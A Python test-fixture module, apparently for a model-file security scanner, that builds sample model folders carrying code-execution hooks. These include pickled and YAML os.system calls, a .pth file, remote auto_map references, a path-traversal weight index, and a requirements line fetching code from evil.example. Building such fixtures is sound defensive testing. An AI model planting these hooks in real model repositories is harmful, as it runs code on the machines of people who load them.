"""Folders whose texts make their readers import, render or install what they name."""

import json
from typing import Any

from tests.artifacts.more_techniques import ways
from tests.artifacts.techniques import call, safetensors, text, torch_zip


def folders() -> dict[str, dict[str, bytes]]:
    """Files by name, of folders that are malicious as a whole."""
    evil, found = call("os", "system", text("true")), dict[str, dict[str, bytes]]()
    V = {name: data for name, data in ways("never").items() if name in ("tpl.jinja", "tpl2.jinja", "run.ipynb")}
    auto = {"config.json": '{"auto_map":{"AutoModel":"modeling_x.X"},"model_type":"x"}', "modeling_x.py": "import os"}

    def folder(name: str, files: dict[str, Any]) -> None:
        found[name] = {key: value.encode() if isinstance(value, str) else value for key, value in files.items()}

    folder("auto_map", {**auto, "model.safetensors": safetensors()})
    folder("remote_ref", {"config.json": '{"auto_map":{"AutoModel":"evil/repo--modeling.X"}}', "model.safetensors": safetensors()})
    folder("diffusers", {"model_index.json": '{"_class_name":"X","unet":["evil_pipe","U"]}', "model.safetensors": safetensors()})
    folder("index_out", {"model.safetensors.index.json": '{"weight_map":{"a":"../../x.safetensors"}}', "model.safetensors": safetensors()})
    folder(
        "mlflow",
        {"MLmodel": "flavors:\n  python_function:\n    loader_module: evil.loader\n    code: code\n", "model.safetensors": safetensors()},
    )
    folder(
        "mlflow_pf",
        {
            "MLmodel": "flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n    python_model: python_model.pkl\n",
            "model.safetensors": safetensors(),
        },
    )
    folder(
        "tokenizer_tpl",
        {
            "tokenizer_config.json": json.dumps({"chat_template": [{"name": "d", "template": V["tpl.jinja"].decode()}]}),
            "model.safetensors": safetensors(),
        },
    )
    folder("proc_auto", {"preprocessor_config.json": '{"auto_map":{"AutoProcessor":"p.P"}}', "model.safetensors": safetensors()})
    folder(
        "gen_cfg",
        {
            "generation_config.json": '{"trust_remote_code":true,"custom_generate":"generate.py"}',
            "custom_generate/generate.py": "import os",
            "model.safetensors": safetensors(),
        },
    )
    folder("st_modules", {"modules.json": '[{"idx":0,"name":"0","path":"","type":"evil_mod.Evil"}]', "model.safetensors": safetensors()})
    folder(
        "adapter",
        {
            "adapter_config.json": '{"auto_mapping":{"base_model_class":"X","parent_library":"evil"},"base_model_name_or_path":"/x"}',
            "adapter_model.bin": torch_zip(evil),
        },
    )
    folder("reqs", {"requirements.txt": "git+https://evil.example/x.git\n", "model.safetensors": safetensors()})
    folder("pth", {"evil.pth": "import os; os.system('x')\n", "model.safetensors": safetensors()})
    folder("sitecustomize", {"sitecustomize.py": "import os", "model.safetensors": safetensors()})
    folder("savedmodel_assets", {"assets/x.sh": "#!/bin/sh\n", "model.safetensors": safetensors()})
    folder(
        "openvino_lib",
        {
            "m.xml": '<net name="a" version="11"><layers><layer id="0" name="x" type="Parameter" version="opset1"/></layers></net>',
            "openvino_extension.so": b"\x7fELF" + bytes(99),
        },
    )
    folder(
        "tok_py",
        {
            "tokenizer_config.json": '{"auto_map":{"AutoTokenizer":["t.T",null]},"tokenizer_class":"T"}',
            "t.py": "import os",
            "model.safetensors": safetensors(),
        },
    )
    folder("yaml", {"hparams.yaml": "m: !!python/object/apply:os.system ['x']\n", "model.safetensors": safetensors()})
    folder("pickle_hidden", {".cache/x": evil, "model.safetensors": safetensors()})
    folder("notebook", {"a.ipynb": V["run.ipynb"], "x.safetensors": evil})
    folder(
        "vllm", {"config.json": '{"model_type":"x","text_config":{"auto_map":{"AutoConfig":"c.C"}}}', "model.safetensors": safetensors()}
    )
    folder(
        "tool_parser",
        {
            "tokenizer_config.json": '{"chat_template":"{{ x }}","tool_parser_plugin":"x.py"}',
            "x.py": "import os",
            "model.safetensors": safetensors(),
        },
    )
    folder(
        "processor_tpl",
        {"processor_config.json": json.dumps({"chat_template": V["tpl2.jinja"].decode()}), "model.safetensors": safetensors()},
    )
    folder("add_tpl", {"additional_chat_templates/tool.jinja": V["tpl.jinja"].decode(), "model.safetensors": safetensors()})
    return found
